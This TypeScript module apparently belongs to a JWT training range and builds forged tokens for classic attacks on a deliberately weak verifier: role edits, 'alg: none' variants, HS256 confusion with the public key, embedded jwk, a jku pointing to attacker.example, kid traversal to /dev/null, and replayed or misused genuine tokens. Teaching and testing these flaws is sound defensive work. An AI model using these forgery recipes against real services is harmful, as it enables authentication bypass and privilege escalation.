import {
  es256,
  flipLastSignatureBit,
  hs256,
  joinToken,
  signingInput,
  splitToken,
  type Json,
} from "@/lib/threats/jwt-range/forge";
import type { RangeTokenKind } from "@/lib/threats/jwt-range/issue";

/**
 * The range's classic attacks, one recipe each: how the forged token is built from what an
 * attacker has (a genuine token of their own, the published public key, a key pair of their own).
 * The workbench runs them in the browser; the tests run the very same recipes.
 */

export type AttackTarget = "access" | "pass";
// Every kind the range issues but the weak-secret token, which only the cracking lesson asks for.
export type IssuedKind = Exclude<RangeTokenKind, "weak">;

export interface RangeMaterial {
  /** A genuine range token of the kind asked for (the attacker's own, old or current). */
  issue: (kind: IssuedKind) => Promise<string>;
  publicPem: string;
  attacker: { privateJwk: JsonWebKey & { kid?: string }; jwksUrl: string | null };
}

export interface Built {
  token: string;
  target: AttackTarget;
  /** The genuine token it was made from, when the lesson is the difference (the bit-flip). */
  genuine?: string;
}

export interface Attack {
  id: string;
  title: string;
  /** How it is built, in a sentence. */
  how: string;
  /** The naive verifier's mistake it needs (null: none — a real verifier accepts it too). */
  exploits: string | null;
  build: (material: RangeMaterial) => Promise<Built>;
}

async function genuine(material: RangeMaterial) {
  const parts = splitToken(await material.issue("fresh"));
  if (parts === null) throw new Error("The range issued a token that is not a JWS.");
  return parts;
}

const asAdmin = (payload: Json): Json => ({ ...payload, role: "admin" });

function withoutPrivatePart(jwk: JsonWebKey & { kid?: string }): Json {
  const { kty, crv, x, y } = jwk;
  return { kty, crv, x, y };
}

/** A token whose signature `sign` makes over its own header and payload. */
async function forge(
  header: Json,
  payload: Json,
  sign: (input: string) => string | Promise<string>,
): Promise<string> {
  return joinToken({ header, payload, signature: await sign(signingInput(header, payload)) });
}

function signedByAttacker(material: RangeMaterial, header: Json, payload: Json) {
  return forge(header, payload, (input) => es256(input, material.attacker.privateJwk));
}

function algNone(alg: string): Attack {
  return {
    id: `alg_${alg}`,
    title: `alg: "${alg}"`,
    how: `The header says "alg": "${alg}" and the signature is empty; the role says admin.`,
    exploits: "trust_alg",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forged = { header: { typ: header.typ, alg }, payload: asAdmin(payload), signature: "" };
      return { token: joinToken(forged), target: "access" };
    },
  };
}

export const ATTACKS: readonly Attack[] = [
  {
    id: "role_admin",
    title: "Change the role to admin",
    how: "The payload's role is edited to admin; the signature is left as it was (now wrong).",
    exploits: "decode_only",
    build: async (m) => {
      const parts = await genuine(m);
      return { token: joinToken({ ...parts, payload: asAdmin(parts.payload) }), target: "access" };
    },
  },
  algNone("none"),
  algNone("None"),
  algNone("NONE"),
  {
    id: "alg_confusion",
    title: "Algorithm confusion (HS256 with the public key)",
    how: "The header says HS256 and the signature is an HMAC keyed with the range's published public key (its PEM text).",
    exploits: "trust_alg",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const token = await forge({ ...header, alg: "HS256" }, asAdmin(payload), (input) =>
        hs256(input, m.publicPem),
      );
      return { token, target: "access" };
    },
  },
  {
    id: "embedded_jwk",
    title: "Embedded jwk",
    how: "Signed with the attacker's own key, whose public half rides in the header as jwk.",
    exploits: "trust_jwk",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forgedHeader = {
        alg: "ES256",
        typ: header.typ,
        jwk: withoutPrivatePart(m.attacker.privateJwk),
      };
      return { token: await signedByAttacker(m, forgedHeader, asAdmin(payload)), target: "access" };
    },
  },
  {
    id: "jku",
    title: "jku to the attacker's key set",
    how: "Signed with the attacker's key; the header's jku points to the attacker's site, which serves its public half.",
    exploits: "trust_jku",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forgedHeader = {
        alg: "ES256",
        typ: header.typ,
        kid: m.attacker.privateJwk.kid,
        jku: m.attacker.jwksUrl ?? "http://attacker.example/jwks.json",
      };
      return { token: await signedByAttacker(m, forgedHeader, asAdmin(payload)), target: "access" };
    },
  },
  {
    id: "kid_traversal",
    title: "kid path traversal",
    how: 'The kid walks out of the key directory to /dev/null (an empty file): the HMAC is keyed with "".',
    exploits: "kid_as_path",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forgedHeader = { alg: "HS256", typ: header.typ, kid: "../../../../../../dev/null" };
      const token = await forge(forgedHeader, asAdmin(payload), (input) => hs256(input, ""));
      return { token, target: "access" };
    },
  },
  {
    id: "expired",
    title: "An expired token",
    how: "A genuine token whose exp passed an hour ago — a copy kept from earlier.",
    exploits: "skip_time",
    build: async (m) => ({ token: await m.issue("expired"), target: "access" }),
  },
  {
    id: "not_yet_valid",
    title: "A not-yet-valid token",
    how: "A genuine token whose nbf is an hour away.",
    exploits: "skip_time",
    build: async (m) => ({ token: await m.issue("not_yet_valid"), target: "access" }),
  },
  {
    id: "pass_as_access",
    title: "A check-in pass used as an access token",
    how: "A genuine check-in pass (typ checkin+jwt, its own audience) presented where an access token is expected.",
    exploits: "skip_audience",
    build: async (m) => ({ token: await m.issue("pass"), target: "access" }),
  },
  {
    id: "access_as_pass",
    title: "An access token used as a check-in pass",
    how: "A genuine access token presented at the check-in door.",
    exploits: "skip_audience",
    build: async (m) => ({ token: await m.issue("fresh"), target: "pass" }),
  },
  {
    id: "stolen_bound",
    title: "A stolen DPoP-bound token, replayed as Bearer",
    how: "A genuine token from a DPoP login, bound to the victim's key (cnf.jkt), copied and sent as a plain Bearer token — the thief has no key to sign a proof with.",
    exploits: "ignore_cnf",
    build: async (m) => ({ token: await m.issue("bound"), target: "access" }),
  },
  {
    id: "bit_flip",
    title: "Signature bit-flip",
    how: "The last character of a genuine signature, one unused bit flipped: a different string, the same signature bytes.",
    exploits: null,
    build: async (m) => {
      const genuine = await m.issue("fresh");
      return { token: flipLastSignatureBit(genuine), target: "access", genuine };
    },
  },
];
